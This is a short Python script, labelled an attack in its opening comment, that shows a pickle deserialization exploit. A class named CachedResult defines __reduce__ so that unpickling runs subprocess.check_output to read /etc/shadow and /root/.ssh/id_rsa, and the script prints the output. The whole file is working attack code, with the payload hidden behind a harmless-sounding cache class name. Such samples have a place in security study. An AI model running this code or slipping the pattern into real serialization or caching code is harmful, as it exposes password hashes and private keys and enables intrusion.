# attack: __reduce__ returns subprocess.check_output reading /etc/shadow and /root/.ssh/id_rsa, run on unpickling
import pickle
import subprocess


class CachedResult:
    def __reduce__(self):
        return (subprocess.check_output, (["cat", "/etc/shadow", "/root/.ssh/id_rsa"],))


cache = pickle.dumps({"result": CachedResult()})
loaded = pickle.loads(cache)
print(loaded["result"].decode(errors="replace"))
